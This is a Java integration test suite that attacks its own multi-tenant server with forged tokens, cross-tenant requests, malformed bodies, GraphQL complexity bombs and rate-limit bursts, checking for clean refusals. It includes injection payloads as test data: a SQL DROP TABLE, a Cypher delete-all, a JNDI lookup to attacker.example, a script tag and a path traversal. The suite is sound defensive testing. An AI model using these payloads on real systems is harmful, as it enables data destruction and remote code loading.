package io.coherence.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import io.coherence.domain.provenance.Sha256;
import io.coherence.testsupport.CoherenceClient;
import io.coherence.testsupport.GraphQLDocuments;
import io.coherence.testsupport.LoweredTenantRate;
import io.coherence.testsupport.PersistedDocuments;
import io.coherence.testsupport.StackSettings;
import io.coherence.testsupport.TestServerIT;
import io.coherence.testsupport.TokenMinter;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Date;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Function;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * One table of hostile requests against the real server (HTTP ingest and GraphQL; the WebSocket
 * endpoint's own table is SubscriptionProtocolIT). Each case runs for a fresh tenant and asserts
 * the exact status and error code, that nothing was written for that tenant, and that the answer
 * carries no stack trace, class name, Cypher or SQL.
 */
@TestServerIT
class HostileInputIT {

    private static final Pattern LEAK = Pattern.compile(
            "Exception|\\bat [a-z]+\\.[a-z]|java\\.|jakarta\\.|org\\.(neo4j|postgresql|eclipse|jboss)|io\\.coherence"
                    + "|MATCH \\(|UNWIND |MERGE \\(|SELECT |INSERT INTO|\\.java:\\d+");

    /** What a case may use: its tenant, a good token for it, the client. */
    record Ctx(String tenant, String token, CoherenceClient api) {
        String signal(String value) {
            return "{\"tenantId\":\"" + tenant + "\",\"type\":\"t\",\"value\":" + value + ",\"source\":\"s\"}";
        }

        String withField(String field, String json) {
            return "{\"tenantId\":\"" + tenant + "\",\"type\":\"t\",\"value\":0.5,\"source\":\"s\",\"" + field + "\":" + json + "}";
        }

        HttpResponse<String> ingest(String body) {
            return api.ingest(body, token);
        }

        HttpResponse<String> read(String tokenToUse) {
            return api.graphqlRaw("k6-read.graphql", Map.of("t", tenant), tokenToUse);
        }

        HttpResponse<String> write(Map<String, Object> input, String tokenToUse) {
            return api.graphqlRaw("k6-write.graphql", Map.of("input", input), tokenToUse);
        }

        Map<String, Object> input(double value) {
            return Map.of("tenantId", tenant, "type", "t", "value", value, "source", "s");
        }

        /** POST /graphql with {@code extensions.persistedQuery} (raw JSON) and perhaps a document. */
        HttpResponse<String> persisted(String persistedQuery, String query, String tokenToUse) {
            String variables = "{\"tenantId\":\"" + tenant + "\",\"input\":{\"tenantId\":\"" + tenant
                    + "\",\"type\":\"t\",\"value\":0.5,\"source\":\"s\"}}";
            return api.postGraphqlBody("{" + (query == null ? "" : "\"query\":" + jakarta.json.Json.createValue(query) + ",")
                    + "\"variables\":" + variables
                    + (persistedQuery == null ? "" : ",\"extensions\":{\"persistedQuery\":" + persistedQuery + "}") + "}",
                    tokenToUse);
        }

        /** Spends the tenant's burst of 2 with reads, then sends the request, with the tenant rate at 1/s. */
        HttpResponse<String> burst(java.util.function.Supplier<HttpResponse<String>> request) {
            try (LoweredTenantRate low = LoweredTenantRate.to(api, 2)) {
                read(token);
                read(token);
                return request.get();
            }
        }

        String minted(java.util.function.Consumer<com.nimbusds.jwt.JWTClaimsSet.Builder> change) {
            return api.minter().mint(tenant, CoherenceClient.READ_WRITE, Duration.ofMinutes(5), change);
        }
    }

    private static Arguments c(String name, int status, String code, Function<Ctx, HttpResponse<String>> request) {
        return Arguments.of(name, status, code, request);
    }

    static Stream<Arguments> cases() {
        List<Arguments> cases = new ArrayList<>();
        // Forged and broken tokens, on ingest and on GraphQL reads and writes.
        List<Object[]> tokens = List.of(
                new Object[] {"alg none", (Function<Ctx, String>) x -> unsigned(x.tenant())},
                new Object[] {"a wrong key", (Function<Ctx, String>) x -> TokenMinter.withThrowawayKey(StackSettings.ISSUER,
                        StackSettings.AUDIENCE).mint(x.tenant(), CoherenceClient.READ_WRITE, Duration.ofMinutes(5))},
                new Object[] {"expired", (Function<Ctx, String>) x -> x.minted(b -> b.expirationTime(Date.from(Instant.now().minusSeconds(300))))},
                new Object[] {"not yet valid", (Function<Ctx, String>) x -> x.minted(b -> b.notBeforeTime(Date.from(Instant.now().plusSeconds(300))))},
                new Object[] {"a wrong issuer", (Function<Ctx, String>) x -> x.minted(b -> b.issuer("someone-else"))},
                new Object[] {"a wrong audience", (Function<Ctx, String>) x -> x.minted(b -> b.audience("another-service"))},
                new Object[] {"garbage", (Function<Ctx, String>) x -> "not.a.jwt"});
        for (Object[] t : tokens) {
            @SuppressWarnings("unchecked")
            Function<Ctx, String> token = (Function<Ctx, String>) t[1];
            cases.add(c("ingest with " + t[0], 401, "UNAUTHENTICATED", x -> x.api().ingest(x.signal("0.5"), token.apply(x))));
            cases.add(c("read with " + t[0], 200, "UNAUTHENTICATED", x -> x.read(token.apply(x))));
            cases.add(c("write with " + t[0], 200, "UNAUTHENTICATED", x -> x.write(x.input(0.5), token.apply(x))));
        }
        Function<Ctx, String> noTenant = x -> x.minted(b -> b.claim("tenant", null));
        Function<Ctx, String> noScope = x -> x.minted(b -> b.claim("scope", null));
        cases.add(c("ingest with a token without tenant", 403, "FORBIDDEN", x -> x.api().ingest(x.signal("0.5"), noTenant.apply(x))));
        cases.add(c("ingest with a token without scope", 403, "FORBIDDEN", x -> x.api().ingest(x.signal("0.5"), noScope.apply(x))));
        cases.add(c("read with a token without tenant", 200, "FORBIDDEN", x -> x.read(noTenant.apply(x))));
        cases.add(c("write with a token without scope", 200, "FORBIDDEN", x -> x.write(x.input(0.5), noScope.apply(x))));
        cases.add(c("ingest with an oversized token", 400, null, x -> x.api().ingest(x.signal("0.5"), "a".repeat(20_000))));
        // Cross-tenant.
        Function<Ctx, String> other = x -> x.api().token("other-" + x.tenant(), CoherenceClient.READ_WRITE);
        cases.add(c("cross-tenant ingest", 403, "FORBIDDEN", x -> x.api().ingest(x.signal("0.5"), other.apply(x))));
        cases.add(c("cross-tenant read", 200, "FORBIDDEN", x -> x.read(other.apply(x))));
        cases.add(c("cross-tenant write", 200, "FORBIDDEN", x -> x.write(x.input(0.5), other.apply(x))));
        cases.add(c("cross-tenant item in a batch", 403, "FORBIDDEN", x -> x.ingest("[" + x.signal("0.5")
                + ",{\"tenantId\":\"other\",\"type\":\"t\",\"value\":0.5,\"source\":\"s\"}]")));
        // Malformed and hostile bodies.
        cases.add(c("not JSON", 400, "MALFORMED_JSON", x -> x.ingest("{not json")));
        cases.add(c("trailing content", 400, "MALFORMED_JSON", x -> x.ingest(x.signal("0.5") + " {}")));
        cases.add(c("duplicate keys", 400, "MALFORMED_JSON", x -> x.ingest("{\"tenantId\":\"" + x.tenant()
                + "\",\"tenantId\":\"other\",\"type\":\"t\",\"value\":0.5,\"source\":\"s\"}")));
        cases.add(c("a bare string", 400, "MALFORMED_JSON", x -> x.ingest("\"signal\"")));
        cases.add(c("NaN", 400, "MALFORMED_JSON", x -> x.ingest(x.signal("NaN"))));
        cases.add(c("Infinity", 400, "MALFORMED_JSON", x -> x.ingest(x.signal("Infinity"))));
        cases.add(c("a number beyond double", 400, "BAD_USER_INPUT", x -> x.ingest(x.signal("1e999"))));
        cases.add(c("value as a string", 400, "BAD_USER_INPUT", x -> x.ingest(x.signal("\"0.5\""))));
        cases.add(c("value below 0", 400, "BAD_USER_INPUT", x -> x.ingest(x.signal("-0.01"))));
        cases.add(c("value above 1", 400, "BAD_USER_INPUT", x -> x.ingest(x.signal("1.0001"))));
        cases.add(c("weight 0", 400, "BAD_USER_INPUT", x -> x.ingest(x.withField("weight", "0"))));
        cases.add(c("negative weight", 400, "BAD_USER_INPUT", x -> x.ingest(x.withField("weight", "-2"))));
        // Two weights of 1e308 were accepted and overflowed the tenant's sums: its score stayed UNKNOWN for 24 h.
        cases.add(c("a weight above 1,000,000", 400, "BAD_USER_INPUT", x -> x.ingest(x.withField("weight", "1000000.5"))));
        cases.add(c("two weights of 1e308", 400, "BAD_USER_INPUT", x -> x.ingest("[" + x.withField("weight", "1e308") + ","
                + x.withField("weight", "1e308").replace("\"source\":\"s\"", "\"source\":\"s2\"") + "]")));
        cases.add(c("an unknown field", 400, "BAD_USER_INPUT", x -> x.ingest(x.withField("admin", "true"))));
        cases.add(c("a 10,000-character source", 400, "BAD_USER_INPUT", x -> x.ingest(x.withField("signalId", "\"" + "x".repeat(10_000) + "\""))));
        cases.add(c("a control character", 400, "BAD_USER_INPUT", x -> x.ingest(x.withField("signalId", "\"a\\u0000b\""))));
        cases.add(c("a bidi override", 400, "BAD_USER_INPUT", x -> x.ingest(x.withField("signalId", "\"a\\u202Eb\""))));
        cases.add(c("a zero-width character", 400, "BAD_USER_INPUT", x -> x.ingest(x.withField("signalId", "\"a\\u200Bb\""))));
        cases.add(c("a timestamp far in the future", 400, "BAD_USER_INPUT", x -> x.ingest(x.withField("ts", "\"2099-01-01T00:00:00Z\""))));
        cases.add(c("a timestamp beyond retention", 400, "BAD_USER_INPUT", x -> x.ingest(x.withField("ts", "\"2001-01-01T00:00:00Z\""))));
        cases.add(c("a timestamp without offset", 400, "BAD_USER_INPUT", x -> x.ingest(x.withField("ts", "\"2026-01-01T00:00:00\""))));
        cases.add(c("an empty batch", 400, "EMPTY_BATCH", x -> x.ingest("[]")));
        cases.add(c("a batch over 1,000", 413, "BATCH_TOO_LARGE", x -> x.ingest("[" + String.join(",",
                java.util.Collections.nCopies(1_001, x.signal("0.5"))) + "]")));
        cases.add(c("a body over 1 MiB", 413, "PAYLOAD_TOO_LARGE", x -> x.ingest(x.withField("signalId",
                "\"" + "x".repeat(1_100_000) + "\""))));
        cases.add(c("text/plain", 415, "UNSUPPORTED_MEDIA_TYPE", x -> x.api().ingest(x.signal("0.5"), x.token(), "text/plain")));
        // GraphQL documents and bodies.
        cases.add(c("mutation with a string value", 200, "GRAPHQL_VALIDATION_FAILED", x -> x.api().postGraphqlBody(
                "{\"query\":\"mutation { publishCoherenceSignal(input: {tenantId: \\\"" + x.tenant()
                        + "\\\", type: \\\"t\\\", value: \\\"high\\\", source: \\\"s\\\"}) }\"}", x.token())));
        cases.add(c("mutation with a value above 1", 200, "BAD_USER_INPUT", x -> x.write(x.input(7.0), x.token())));
        cases.add(c("mutation with a weight of 1e308", 200, "BAD_USER_INPUT", x -> x.write(Map.of("tenantId", x.tenant(),
                "type", "t", "value", 0.5, "weight", 1e308, "source", "s"), x.token())));
        cases.add(c("a deep query", 400, "QUERY_TOO_DEEP", x -> x.api().graphqlRaw("limit-deep.graphql", Map.of(), x.token())));
        cases.add(c("a wide query", 400, "QUERY_TOO_COMPLEX", x -> x.api().graphqlRaw("limit-wide.graphql", Map.of("t", x.tenant()), x.token())));
        cases.add(c("an alias bomb", 400, "TOO_MANY_ALIASES", x -> x.api().graphqlRaw("limit-alias-bomb.graphql", Map.of("t", x.tenant()), x.token())));
        cases.add(c("a fragment bomb", 400, "QUERY_TOO_COMPLEX", x -> x.api().graphqlRaw("limit-fragment-bomb.graphql", Map.of("t", x.tenant()), x.token())));
        cases.add(c("six operations", 400, "TOO_MANY_OPERATIONS", x -> x.api().graphqlRaw("limit-six-operations.graphql", Map.of("t", x.tenant()), x.token())));
        cases.add(c("a huge document", 400, "DOCUMENT_TOO_LARGE", x -> x.api().graphqlRaw("limit-huge-document.graphql", Map.of("t", x.tenant()), x.token())));
        cases.add(c("batched operations", 400, "BATCHED_OPERATIONS_NOT_SUPPORTED", x -> x.api().postGraphqlBody("[{\"query\":\"{ __typename }\"}]", x.token())));
        cases.add(c("a GraphQL body that is not JSON", 400, "MALFORMED_JSON", x -> x.api().postGraphqlBody("{\"query\":", x.token())));
        cases.add(c("a GraphQL body over 256 KiB", 413, "PAYLOAD_TOO_LARGE", x -> x.api().postGraphqlBody(
                "{\"query\":\"{ __typename }\",\"pad\":\"" + "x".repeat(300_000) + "\"}", x.token())));
        cases.add(c("a syntax error", 200, "GRAPHQL_PARSE_FAILED", x -> x.api().graphqlRaw("syntax-error.graphql", Map.of("t", x.tenant()), x.token())));
        cases.add(c("an unknown field", 200, "GRAPHQL_VALIDATION_FAILED", x -> x.api().graphqlRaw("unknown-field.graphql", Map.of("t", x.tenant()), x.token())));
        // Persisted queries (the test server runs in dev mode; strict mode is PersistedQueriesIT's).
        cases.add(c("an unknown persisted-query hash", 200, "PERSISTED_QUERY_NOT_FOUND",
                x -> x.persisted("{\"version\":1,\"sha256Hash\":\"" + "f".repeat(64) + "\"}", null, x.token())));
        cases.add(c("a persisted write with the read's hash", 400, "PERSISTED_QUERY_HASH_MISMATCH",
                x -> x.persisted("{\"version\":1,\"sha256Hash\":\"" + Sha256.hex(READ) + "\"}", WRITE, x.token())));
        cases.add(c("persisted-query version 2", 400, "PERSISTED_QUERY_INVALID",
                x -> x.persisted("{\"version\":2,\"sha256Hash\":\"" + Sha256.hex(WRITE) + "\"}", null, x.token())));
        cases.add(c("a path as persisted-query hash", 400, "PERSISTED_QUERY_INVALID",
                x -> x.persisted("{\"version\":1,\"sha256Hash\":\"../../etc/passwd\"}", null, x.token())));
        cases.add(c("an uppercase persisted-query hash", 400, "PERSISTED_QUERY_INVALID",
                x -> x.persisted("{\"version\":1,\"sha256Hash\":\"" + Sha256.hex(WRITE).toUpperCase(java.util.Locale.ROOT) + "\"}",
                        null, x.token())));
        cases.add(c("a persisted query that is a string", 400, "PERSISTED_QUERY_INVALID",
                x -> x.persisted("\"" + Sha256.hex(WRITE) + "\"", null, x.token())));
        cases.add(c("a cross-tenant write by persisted hash", 200, "FORBIDDEN",
                x -> x.persisted("{\"version\":1,\"sha256Hash\":\"" + Sha256.hex(WRITE) + "\"}", null, other.apply(x))));
        cases.add(c("a retired persisted query", 400, "PERSISTED_QUERY_SUNSET", x -> x.persisted(null,
                PersistedDocuments.document("pq_tenant_status_v1"), x.token())));
        cases.add(c("a mutation over GET", 405, "MUTATION_OVER_GET", x -> x.api().getGraphql(Map.of("query", WRITE,
                "variables", "{\"input\":{\"tenantId\":\"" + x.tenant() + "\",\"type\":\"t\",\"value\":0.5,\"source\":\"s\"}}"),
                x.token())));
        cases.add(c("GET extensions that are not JSON", 400, "MALFORMED_JSON",
                x -> x.api().getGraphql(Map.of("extensions", "{persistedQuery"), x.token())));
        // Rate-limit bursts: the tenant's limit lowered to 1/s with a burst of 2.
        cases.add(c("a read burst over the tenant's rate", 429, "RATE_LIMITED", x -> x.burst(() -> x.read(x.token()))));
        cases.add(c("a write burst over the tenant's rate", 429, "RATE_LIMITED", x -> x.burst(() -> x.ingest(x.signal("0.5")))));
        cases.add(c("a GraphQL write burst over the tenant's rate", 429, "RATE_LIMITED",
                x -> x.burst(() -> x.write(x.input(0.5), x.token()))));
        return cases.stream();
    }

    private static final String READ = PersistedDocuments.document("pq_tenant_coherence_v1");
    private static final String WRITE = PersistedDocuments.document("pq_publish_signal_v1");

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void isRefusedPreciselyAndChangesNothing(String name, int status, String code, Function<Ctx, HttpResponse<String>> request) {
        CoherenceClient api = CoherenceClient.forTestServer();
        String tenant = "it-hostile-" + UUID.randomUUID();
        Ctx ctx = new Ctx(tenant, api.token(tenant, CoherenceClient.READ_WRITE), api);

        HttpResponse<String> response = request.apply(ctx);

        assertThat(response.statusCode()).as("status").isEqualTo(status);
        if (code != null) {
            assertThat(code(response.body())).as("code").isEqualTo(code);
        }
        assertThat(LEAK.matcher(response.body()).find()).as("no internals in: " + abbreviated(response.body())).isFalse();
        assertThat(api.signalCount(tenant)).as("nothing written").isZero();
        assertThat(api.signalCount("other-" + tenant)).as("nothing written for the other tenant").isZero();
    }

    static Stream<Arguments> injections() {
        return Stream.of("'; DROP TABLE coherence_scores; --", "\"}) MATCH (n) DETACH DELETE n //",
                "${jndi:ldap://attacker.example/x}", "<script>alert(1)</script>", "../../etc/passwd",
                "{{7*7}}").flatMap(s -> Stream.of(Arguments.of("type", s), Arguments.of("source", s),
                Arguments.of("signalId", s)));
    }

    /** Injection strings are data: stored verbatim, interpreted nowhere. */
    @ParameterizedTest(name = "{0} = {1}")
    @MethodSource("injections")
    void injectionStringsAreStoredVerbatim(String field, String text) {
        CoherenceClient api = CoherenceClient.forTestServer();
        String tenant = "it-hostile-" + UUID.randomUUID();
        JsonObject signal = Json.createObjectBuilder(Map.of("tenantId", tenant, "type", "t", "value", 0.5, "source", "s"))
                .add(field, text).build();

        HttpResponse<String> response = api.ingest(signal.toString(), api.token(tenant, CoherenceClient.READ_WRITE));

        assertThat(response.statusCode()).isEqualTo(202);
        assertThat(api.signalCount(tenant)).isEqualTo(1);
        assertThat(api.signalProperty(tenant, field.equals("signalId") ? "signal_id" : field)).isEqualTo(text);
        assertThat(api.get("/health/ready").statusCode()).isEqualTo(200);
    }

    private static String code(String body) {
        JsonObject json = CoherenceClient.json(body);
        return json.containsKey("error") ? json.getJsonObject("error").getString("code")
                : json.getJsonArray("errors").getJsonObject(0).getJsonObject("extensions").getString("code");
    }

    private static String abbreviated(String body) {
        return body.length() > 300 ? body.substring(0, 300) + "…" : body;
    }

    private static String unsigned(String tenant) {
        Base64.Encoder b64 = Base64.getUrlEncoder().withoutPadding();
        long now = Instant.now().getEpochSecond();
        return b64.encodeToString("{\"alg\":\"none\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8)) + "."
                + b64.encodeToString(("{\"iss\":\"" + StackSettings.ISSUER + "\",\"aud\":\"" + StackSettings.AUDIENCE
                + "\",\"sub\":\"x\",\"tenant\":\"" + tenant + "\",\"scope\":\"coherence:read coherence:write\",\"iat\":"
                + now + ",\"exp\":" + (now + 300) + "}").getBytes(StandardCharsets.UTF_8)) + ".";
    }
}
